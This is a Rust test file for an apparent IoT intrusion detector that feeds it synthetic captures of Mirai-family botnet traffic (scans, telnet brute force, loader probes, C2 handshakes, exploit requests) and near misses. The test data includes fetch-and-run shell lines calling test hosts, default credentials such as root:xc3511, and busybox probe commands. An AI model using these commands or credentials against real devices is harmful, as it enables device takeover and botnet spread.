//! Every detection against a synthetic capture: a positive case that fires with the
//! right evidence, and a near miss that does not.

#![allow(clippy::indexing_slicing, clippy::unwrap_used, clippy::panic)]

use std::net::{IpAddr, Ipv4Addr};

use busybait_pcapgen::{
    mirai_scan, mirai_syn, os_syn_options, tcp6_syn, tcp_frame, tcp_session, udp_frame, Capture,
    Encapsulation, Flags, Segment,
};
use busybait_wire::capture::{read_frames, CaptureEnd};
use busybait_wire::detect::MIRAI_CLIENT_REPLY;
use busybait_wire::{Analyzer, Limits, Report};

const T0: f64 = 1_790_000_000.0;

fn analyse(bytes: &[u8]) -> (Report, CaptureEnd) {
    let mut a = Analyzer::new(Limits::default());
    let end = read_frames(bytes, |f| a.frame(f.number, f.time, f.link, f.data)).unwrap();
    (a.finish(), end)
}

fn ids(r: &Report) -> Vec<(&'static str, IpAddr)> {
    r.alerts.iter().map(|a| (a.id, a.src)).collect()
}

fn ip(s: &str) -> Ipv4Addr {
    s.parse().unwrap()
}

fn targets(n: u8) -> Vec<Ipv4Addr> {
    (1..=n).map(|i| Ipv4Addr::new(198, 51, 100, i)).collect()
}

/// BusyBox telnetd's opening (reference §1.4).
const TELNETD_OPENING: &[u8] = &[
    0xff, 0xfd, 0x01, 0xff, 0xfd, 0x1f, 0xff, 0xfb, 0x01, 0xff, 0xfb, 0x03,
];

#[test]
fn mirai_syns_fire_and_a_scanner_with_other_seqs_is_only_a_telnet_scan() {
    let mut cap = Capture::default();
    mirai_scan(&mut cap, ip("10.0.0.5"), &targets(20), T0, true);
    mirai_scan(&mut cap, ip("10.0.0.6"), &targets(20), T0 + 1.0, false);
    let (r, end) = analyse(cap.bytes());
    assert_eq!(end, CaptureEnd::Complete);
    assert_eq!(
        ids(&r),
        [
            ("mirai-syn-scan", IpAddr::V4(ip("10.0.0.5"))),
            ("telnet-scan", IpAddr::V4(ip("10.0.0.5"))),
            ("telnet-scan", IpAddr::V4(ip("10.0.0.6"))),
        ]
    );
    let mirai = &r.alerts[0];
    assert_eq!((mirai.count, mirai.targets), (20, 20));
    assert_eq!(mirai.evidence[0].packet, 1);
    assert_eq!(mirai.evidence[0].matched, "seq c6336401 = dst");
    assert_eq!(mirai.first, T0);
    assert_eq!(r.counters.frames, 40);
    assert_eq!(r.counters.tcp, 40);
}

#[test]
fn an_os_syn_with_seq_equal_to_dst_is_not_mirai() {
    // The near miss: seq == dst by construction but with the options every OS sends.
    let mut cap = Capture::default();
    let options = os_syn_options();
    for (i, dst) in targets(5).iter().enumerate() {
        let frame = tcp_frame(&Segment {
            src: ip("10.0.0.7"),
            dst: *dst,
            sport: 40_000 + i as u16,
            dport: 23,
            seq: u32::from(*dst),
            window: 64_240,
            flags: Flags {
                syn: true,
                ..Flags::default()
            },
            options: &options,
            payload: &[],
        });
        cap.frame(T0 + i as f64, &frame);
    }
    let (r, _) = analyse(cap.bytes());
    assert_eq!(ids(&r), []);
}

#[test]
fn nine_targets_are_not_yet_a_scan() {
    let mut cap = Capture::default();
    mirai_scan(&mut cap, ip("10.0.0.8"), &targets(9), T0, false);
    let (r, _) = analyse(cap.bytes());
    assert_eq!(ids(&r), []);
}

#[test]
fn mirai_telnet_client_and_loader_content_fire_an_ordinary_session_does_not() {
    let bot = (ip("10.0.0.9"), 40_001);
    let device = (ip("192.0.2.10"), 23);
    let mut cap = Capture::default();
    tcp_session(
        &mut cap,
        bot,
        device,
        &[
            (false, TELNETD_OPENING),
            (true, &MIRAI_CLIENT_REPLY),
            (false, b"login: "),
            (true, b"root\r\n"),
            (false, b"Password: "),
            (true, b"xc3511\r\n"),
            (false, b"# "),
            (true, b"enable\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n"),
            (false, b"ECCHI: applet not found\r\n# "),
        ],
        T0,
    );
    // An administrator's session on the same device: another client, plain commands.
    let admin = (ip("10.0.0.10"), 40_002);
    tcp_session(
        &mut cap,
        admin,
        device,
        &[
            (false, TELNETD_OPENING),
            (
                true,
                &[0xff, 0xfc, 0x01, 0xff, 0xfd, 0x03, 0xff, 0xfb, 0x18],
            ),
            (false, b"login: "),
            (true, b"admin\r\n"),
            (false, b"Password: "),
            (true, b"hunter2\r\n"),
            (false, b"$ "),
            (true, b"ls /tmp; cat /proc/uptime\r\n"),
        ],
        T0 + 10.0,
    );
    let (r, _) = analyse(cap.bytes());
    let bot_ip = IpAddr::V4(bot.0);
    assert_eq!(
        ids(&r),
        [
            ("mirai-shell-content", bot_ip),
            ("mirai-telnet-client", bot_ip)
        ]
    );
    assert_eq!(
        r.alerts[0].title,
        "Mirai-family shell content: Mirai loader probe"
    );
    assert_eq!(r.alerts[0].evidence[0].matched, "/bin/busybox ECCHI");
    // Handshake (3) + opening + the reply: the reply is frame 5.
    assert_eq!(r.alerts[1].evidence[0].packet, 5);
    assert_eq!(r.alerts[1].dst, Some(IpAddr::V4(device.0)));
}

#[test]
fn repeated_failed_logins_are_brute_force_two_are_not() {
    let device = (ip("192.0.2.20"), 23);
    let mut cap = Capture::default();
    let failing = |cap: &mut Capture, client: Ipv4Addr, n: u16, t: f64| {
        for i in 0..n {
            tcp_session(
                cap,
                (client, 41_000 + i),
                device,
                &[
                    (false, b"login: "),
                    (true, b"admin\r\n"),
                    (false, b"Password: "),
                    (true, b"1234\r\n"),
                    (false, b"Login incorrect\r\nlogin: "),
                ],
                t + f64::from(i),
            );
        }
    };
    failing(&mut cap, ip("10.0.0.11"), 6, T0);
    failing(&mut cap, ip("10.0.0.12"), 2, T0 + 100.0);
    let (r, _) = analyse(cap.bytes());
    assert_eq!(
        ids(&r),
        [("telnet-bruteforce", IpAddr::V4(ip("10.0.0.11")))]
    );
    assert_eq!(r.alerts[0].count, 6);
    assert_eq!(
        r.alerts[0].title,
        "telnet brute force: 6 connections, 6 failed logins"
    );
}

#[test]
fn benign_background_raises_nothing() {
    let mut cap = Capture::default();
    let client = ip("10.0.0.20");
    tcp_session(
        &mut cap,
        (client, 50_000),
        (ip("203.0.113.5"), 80),
        &[
            (true, b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n"),
            (false, b"HTTP/1.1 200 OK\r\n\r\n"),
        ],
        T0,
    );
    tcp_session(
        &mut cap,
        (client, 50_001),
        (ip("203.0.113.6"), 22),
        &[
            (false, b"SSH-2.0-OpenSSH_9.2\r\n"),
            (true, b"SSH-2.0-OpenSSH_9.6\r\n"),
        ],
        T0 + 1.0,
    );
    cap.frame(
        T0 + 2.0,
        &udp_frame(
            client,
            ip("192.0.2.53"),
            53_000,
            53,
            b"\x12\x34\x01\x00\x00\x01",
        ),
    );
    cap.frame(
        T0 + 3.0,
        &udp_frame(client, ip("192.0.2.123"), 123, 123, &[0x23; 48]),
    );
    let (r, _) = analyse(cap.bytes());
    assert_eq!(ids(&r), []);
    assert_eq!(r.counters.udp, 2);
    assert_eq!(r.counters.malformed, 0);
}

#[test]
fn a_cut_short_capture_keeps_what_came_before() {
    let mut cap = Capture::default();
    mirai_scan(&mut cap, ip("10.0.0.30"), &targets(12), T0, true);
    let bytes = cap.bytes();
    // Cut in the middle of the last record.
    let (r, end) = analyse(&bytes[..bytes.len() - 10]);
    assert_eq!(end, CaptureEnd::Truncated);
    assert_eq!(r.counters.frames, 11);
    assert_eq!(ids(&r)[0], ("mirai-syn-scan", IpAddr::V4(ip("10.0.0.30"))));
    assert_eq!(r.alerts[0].count, 11);
}

#[test]
fn not_a_capture_is_an_error() {
    let mut a = Analyzer::new(Limits::default());
    let err = read_frames(
        &b"GET / HTTP/1.1\r\n\r\nthis is not a pcap file at all"[..],
        |f| a.frame(f.number, f.time, f.link, f.data),
    )
    .unwrap_err();
    assert!(
        err.to_string().starts_with("not a pcap or pcapng file"),
        "{err}"
    );
}

#[test]
fn tables_are_bounded_and_what_they_drop_is_counted() {
    let mut cap = Capture::default();
    for i in 0..50u8 {
        mirai_scan(&mut cap, Ipv4Addr::new(10, 1, 0, i), &targets(3), T0, true);
    }
    // 30 clients with one accepted telnet connection each: a pair apiece.
    for i in 0..30u8 {
        tcp_session(
            &mut cap,
            (Ipv4Addr::new(10, 2, 0, i), 40_000),
            (ip("192.0.2.99"), 23),
            &[(false, b"login: ")],
            T0 + 10.0,
        );
    }
    let mut a = Analyzer::new(Limits {
        max_sources: 10,
        max_targets_per_source: 2,
        max_pairs: 20,
        ..Limits::default()
    });
    read_frames(cap.bytes(), |f| a.frame(f.number, f.time, f.link, f.data)).unwrap();
    let r = a.finish();
    assert_eq!(r.alerts.len(), 10, "only the tracked sources");
    assert!(r.alerts.iter().all(|a| a.targets == 3 && a.count == 3));
    // 40 untracked scanners with 3 SYNs each; the 30 clients' SYNs (the source table
    // is full); 10 clients past the 20 pairs.
    assert_eq!(r.counters.untracked, 40 * 3 + 30 + 10);
}

#[test]
fn a_report_to_48101_is_decoded_and_other_bytes_there_are_not() {
    let bot = (ip("10.0.0.40"), 40_100);
    let report_server = (ip("203.0.113.48"), 48101);
    let mut report = vec![0u8, 192, 0, 2, 77, 0, 23, 4];
    report.extend_from_slice(b"root");
    report.push(6);
    report.extend_from_slice(b"xc3511");
    let mut cap = Capture::default();
    tcp_session(&mut cap, bot, report_server, &[(true, &report)], T0);
    // The near miss: something else on the same port (a trailing byte too many).
    let mut other = report.clone();
    other.push(b'!');
    tcp_session(
        &mut cap,
        (ip("10.0.0.41"), 40_101),
        report_server,
        &[(true, &other)],
        T0 + 1.0,
    );
    let (r, _) = analyse(cap.bytes());
    assert_eq!(ids(&r), [("mirai-report", IpAddr::V4(bot.0))]);
    assert_eq!(r.alerts[0].evidence[0].matched, "192.0.2.77:23 root:xc3511");
    assert_eq!(r.alerts[0].evidence[0].packet, 4);
}

#[test]
fn the_c2_handshake_gives_the_bot_id_in_one_or_two_segments() {
    let c2 = (ip("203.0.113.23"), 23);
    let mut cap = Capture::default();
    tcp_session(
        &mut cap,
        (ip("10.0.0.50"), 40_200),
        c2,
        &[
            (true, &[0, 0, 0, 1]),
            (true, b"\x0atelnet.arm"),
            (true, &[0, 0]),
            (false, &[0, 0]),
        ],
        T0,
    );
    tcp_session(
        &mut cap,
        (ip("10.0.0.51"), 40_201),
        c2,
        &[(true, b"\x00\x00\x00\x01\x0btelnet.mpsl")],
        T0 + 1.0,
    );
    // Near misses: the hello then binary, and an admin typing at the panel.
    tcp_session(
        &mut cap,
        (ip("10.0.0.52"), 40_202),
        c2,
        &[
            (true, &[0, 0, 0, 1]),
            (true, &[5, 0xff, 0xfe, 0x00, 0x01, 0x02]),
        ],
        T0 + 2.0,
    );
    tcp_session(
        &mut cap,
        (ip("10.0.0.53"), 40_203),
        c2,
        &[(true, b"admin\r\n")],
        T0 + 3.0,
    );
    let (r, _) = analyse(cap.bytes());
    assert_eq!(
        ids(&r),
        [
            ("mirai-c2-handshake", IpAddr::V4(ip("10.0.0.50"))),
            ("mirai-c2-handshake", IpAddr::V4(ip("10.0.0.51"))),
        ]
    );
    assert_eq!(r.alerts[0].evidence[0].matched, "00000001 id telnet.arm");
    assert_eq!(r.alerts[1].evidence[0].matched, "00000001 id telnet.mpsl");
}

#[test]
fn a_headerless_bins_download_fires_a_browser_request_does_not() {
    let server = (ip("203.0.113.80"), 80);
    let mut cap = Capture::default();
    tcp_session(
        &mut cap,
        (ip("10.0.0.60"), 40_300),
        server,
        &[
            (true, b"GET /bins/mirai.arm7 HTTP/1.0\r\n\r\n"),
            (false, b"HTTP/1.0 200 OK\r\n\r\n\x7fELF"),
        ],
        T0,
    );
    tcp_session(
        &mut cap,
        (ip("10.0.0.61"), 40_301),
        server,
        &[(
            true,
            b"GET /bins/mirai.arm7 HTTP/1.1\r\nHost: 203.0.113.80\r\nUser-Agent: curl/8.5\r\n\r\n",
        )],
        T0 + 1.0,
    );
    let (r, _) = analyse(cap.bytes());
    assert_eq!(
        ids(&r),
        [("mirai-bins-download", IpAddr::V4(ip("10.0.0.60")))]
    );
    assert_eq!(r.alerts[0].evidence[0].matched, "GET /bins/mirai.arm7");
}

#[test]
fn every_exploit_of_the_table_fires_with_its_command_and_near_misses_do_not() {
    use busybait_pcapgen::exploits::{near_misses, request, NAMES};
    let mut cap = Capture::default();
    let victim = ip("198.51.100.80");
    for (i, name) in NAMES.iter().enumerate() {
        let cmd = format!("cd /tmp; wget http://203.0.113.9/{name}; sh {name}");
        let (port, bytes) = request(name, &cmd);
        assert!(!bytes.is_empty(), "{name}");
        tcp_session(
            &mut cap,
            (Ipv4Addr::new(10, 0, 7, i as u8 + 1), 41_000),
            (victim, port),
            &[(true, &bytes), (false, b"HTTP/1.1 200 OK\r\n\r\n")],
            T0 + i as f64,
        );
    }
    for (i, (port, bytes)) in near_misses().iter().enumerate() {
        tcp_session(
            &mut cap,
            (Ipv4Addr::new(10, 0, 8, i as u8 + 1), 41_000),
            (victim, *port),
            &[(true, bytes), (false, b"HTTP/1.1 200 OK\r\n\r\n")],
            T0 + 20.0 + i as f64,
        );
    }
    let (r, _) = analyse(cap.bytes());
    let expected: Vec<(&str, IpAddr)> = (0..NAMES.len())
        .map(|i| {
            (
                "iot-web-exploit",
                IpAddr::V4(Ipv4Addr::new(10, 0, 7, i as u8 + 1)),
            )
        })
        .collect();
    let mut found = ids(&r);
    found.sort();
    assert_eq!(found, expected);
    for alert in &r.alerts {
        let n = match alert.src {
            IpAddr::V4(v4) => usize::from(v4.octets()[3]) - 1,
            IpAddr::V6(_) => unreachable!(),
        };
        let name = NAMES[n];
        assert!(alert.title.contains(name), "{}", alert.title);
        let matched = &alert.evidence[0].matched;
        assert!(
            matched.contains(&format!("wget http://203.0.113.9/{name}"))
                && matched.ends_with(&format!("urls: http://203.0.113.9/{name}")),
            "{name}: {matched}"
        );
    }
    let hg532 = r
        .alerts
        .iter()
        .find(|a| a.title.contains("huawei-hg532"))
        .unwrap();
    assert!(hg532.title.contains("(CVE-2017-17215)"), "{}", hg532.title);
}

#[test]
fn every_link_type_and_both_file_formats_give_the_same_alerts() {
    let src = ip("10.0.0.70");
    for encapsulation in [
        Encapsulation::Ethernet,
        Encapsulation::Vlan,
        Encapsulation::QinQ,
        Encapsulation::LinuxSll,
        Encapsulation::LinuxSll2,
        Encapsulation::RawIp,
    ] {
        for ng in [false, true] {
            let linktype = encapsulation.linktype();
            let mut cap = if ng {
                Capture::pcapng(linktype)
            } else {
                Capture::new(linktype)
            };
            for (i, dst) in targets(12).iter().enumerate() {
                let frame = mirai_syn(src, *dst, 23, true);
                cap.frame(T0 + i as f64 * 0.25, &encapsulation.wrap(&frame));
            }
            let (r, end) = analyse(cap.bytes());
            let what = format!("{encapsulation:?} pcapng={ng}");
            assert_eq!(end, CaptureEnd::Complete, "{what}");
            assert_eq!(r.counters.malformed, 0, "{what}");
            assert_eq!(
                ids(&r),
                [
                    ("mirai-syn-scan", IpAddr::V4(src)),
                    ("telnet-scan", IpAddr::V4(src))
                ],
                "{what}"
            );
            assert_eq!(r.alerts[0].count, 12, "{what}");
            assert_eq!(r.alerts[0].first, T0, "{what}");
            assert_eq!(r.alerts[0].last, T0 + 11.0 * 0.25, "{what}");
        }
    }
}

#[test]
fn ipv6_telnet_scanning_is_found_and_is_never_the_ipv4_mirai_signature() {
    let mut cap = Capture::default();
    let src = [
        0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x70,
    ];
    for i in 0..12u8 {
        let mut dst = [0x20, 0x01, 0x0d, 0xb8, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0];
        dst[15] = i + 1;
        cap.frame(
            T0 + f64::from(i),
            &tcp6_syn(src, dst, 41_338, 23, 0x0a00_0001),
        );
    }
    let (r, _) = analyse(cap.bytes());
    assert_eq!(ids(&r), [("telnet-scan", IpAddr::from(src))]);
    assert_eq!(r.alerts[0].targets, 12);
}

#[test]
fn odd_frames_are_counted_and_the_rest_is_still_analysed() {
    let mut cap = Capture::default();
    let t = T0;
    // Zero-length frame.
    cap.frame(t, &[]);
    // A telnet segment cut by snaplen: the IP length says more than was captured;
    // what was captured still counts.
    let mut loader = b"/bin/busybox ECCHI\r\n".to_vec();
    loader.resize(1200, b'A');
    let long = tcp_frame(&Segment {
        src: ip("10.0.0.80"),
        dst: ip("192.0.2.80"),
        sport: 40_000,
        dport: 23,
        seq: 1,
        window: 1000,
        flags: Flags {
            ack: Some(1),
            psh: true,
            ..Flags::default()
        },
        options: &[],
        payload: &loader,
    });
    cap.frame_cut(t + 0.1, &long[..96], long.len() as u32);
    // Cut inside its TCP header: nothing to decode.
    cap.frame_cut(t + 0.15, &long[..44], long.len() as u32);
    // An IPv4 fragment (more-fragments set): its transport header is elsewhere.
    let mut fragment = long.clone();
    fragment[20] |= 0x20;
    cap.frame(t + 0.2, &fragment);
    // A jumbo frame, whole.
    let jumbo = tcp_frame(&Segment {
        src: ip("10.0.0.81"),
        dst: ip("192.0.2.81"),
        sport: 40_001,
        dport: 80,
        seq: 1,
        window: 1000,
        flags: Flags {
            ack: Some(1),
            ..Flags::default()
        },
        options: &[],
        payload: &[b'B'; 8960],
    });
    cap.frame(t + 0.3, &jumbo);
    // Not IP at all (an ARP-like EtherType), and garbage after an Ethernet header.
    let mut arp = vec![0u8; 12];
    arp.extend_from_slice(&[0x08, 0x06]);
    arp.extend_from_slice(&[0u8; 28]);
    cap.frame(t + 0.4, &arp);
    let mut garbage = vec![0u8; 12];
    garbage.extend_from_slice(&[0x08, 0x00, 0x45, 0xff, 0xff]);
    cap.frame(t + 0.5, &garbage);
    // Then a real scanner: still found.
    mirai_scan(&mut cap, ip("10.0.0.82"), &targets(10), T0 + 1.0, true);
    let (r, end) = analyse(cap.bytes());
    assert_eq!(end, CaptureEnd::Complete);
    assert_eq!(r.counters.frames, 17);
    assert_eq!(r.counters.not_ip, 1, "{:?}", r.counters);
    assert_eq!(
        r.counters.malformed, 3,
        "empty, cut in the TCP header and garbage: {:?}",
        r.counters
    );
    assert_eq!(r.counters.cut, 1, "{:?}", r.counters);
    assert_eq!(r.counters.fragments, 1, "{:?}", r.counters);
    assert_eq!(
        r.counters.tcp, 12,
        "the cut segment, the jumbo frame and the scan: {:?}",
        r.counters
    );
    assert_eq!(
        ids(&r),
        [
            ("mirai-shell-content", IpAddr::V4(ip("10.0.0.80"))),
            ("mirai-syn-scan", IpAddr::V4(ip("10.0.0.82"))),
            ("telnet-scan", IpAddr::V4(ip("10.0.0.82")))
        ]
    );
    assert_eq!(r.alerts[0].evidence[0].packet, 2);
}

#[test]
fn a_bogus_record_length_ends_reading_with_a_clear_reason() {
    let mut cap = Capture::default();
    mirai_scan(&mut cap, ip("10.0.0.90"), &targets(4), T0, true);
    let mut bytes = cap.bytes().to_vec();
    // A record header claiming 3 GB of data.
    bytes.extend_from_slice(&1u32.to_le_bytes());
    bytes.extend_from_slice(&0u32.to_le_bytes());
    bytes.extend_from_slice(&3_000_000_000u32.to_le_bytes());
    bytes.extend_from_slice(&3_000_000_000u32.to_le_bytes());
    bytes.extend_from_slice(&[0u8; 64]);
    let (r, end) = analyse(&bytes);
    assert_eq!(r.counters.frames, 4);
    assert_eq!(ids(&r), [("mirai-syn-scan", IpAddr::V4(ip("10.0.0.90")))]);
    assert!(
        !matches!(end, CaptureEnd::Complete),
        "the bogus record is reported: {end:?}"
    );
}

#[test]
fn family_cues_and_variant_probe_words_are_named() {
    let device = (ip("192.0.2.90"), 23);
    let mut cap = Capture::default();
    tcp_session(
        &mut cap,
        (ip("10.0.0.90"), 40_900),
        device,
        &[
            (false, b"# "),
            (
                true,
                b"/bin/busybox;echo -e '\\147\\141\\171\\146\\147\\164'\r\n",
            ),
            (
                true,
                b"/bin/busybox wget; /bin/busybox tftp; /bin/busybox HGYQA\r\n",
            ),
            (
                true,
                b">/tmp/.x&&cd /tmp;>/var/.x&&cd /var; wget http://192.0.2.1:8080/Mozi.m\r\n",
            ),
            // A variant's probe word, split across segments; and another.
            (true, b"enable\r\n/bin/busybox BOT"),
            (true, b"NET\r\n/bin/busybox PARALYSIS; /bin/busybox ps\r\n"),
        ],
        T0,
    );
    // Near misses: an applet in lower case, a mixed-case word, one too short, one that
    // goes on in lower case.
    tcp_session(
        &mut cap,
        (ip("10.0.0.91"), 40_901),
        device,
        &[(
            true,
            b"/bin/busybox ls; /bin/busybox Abcde; /bin/busybox X1; /bin/busybox BOTNETx\r\n",
        )],
        T0 + 1.0,
    );
    let (r, _) = analyse(cap.bytes());
    let titles: Vec<&str> = r.alerts.iter().map(|a| a.title.as_str()).collect();
    assert_eq!(
        titles,
        [
            "Mirai-family shell content: Gafgyt probe (gayfgt in octal)",
            "Mirai-family shell content: Mozi binary (MIPS)",
            "Mirai-family shell content: Mozi writable-directory probe",
            "Mirai-family shell content: Satori download-method probe",
            "Mirai-family shell content: unknown-applet probe of a variant (BOTNET, PARALYSIS)",
        ]
    );
    assert!(r
        .alerts
        .iter()
        .all(|a| a.src == IpAddr::V4(ip("10.0.0.90"))));
    let probe = &r.alerts[4];
    assert_eq!(probe.count, 2);
    // BOTNET is complete in the segment with NET (handshake 3, then 5 turns: frame 9).
    assert_eq!(probe.evidence[0].packet, 9);
    assert_eq!(probe.evidence[0].matched, "/bin/busybox BOTNET");
    assert_eq!(probe.evidence[1].matched, "/bin/busybox PARALYSIS");
}
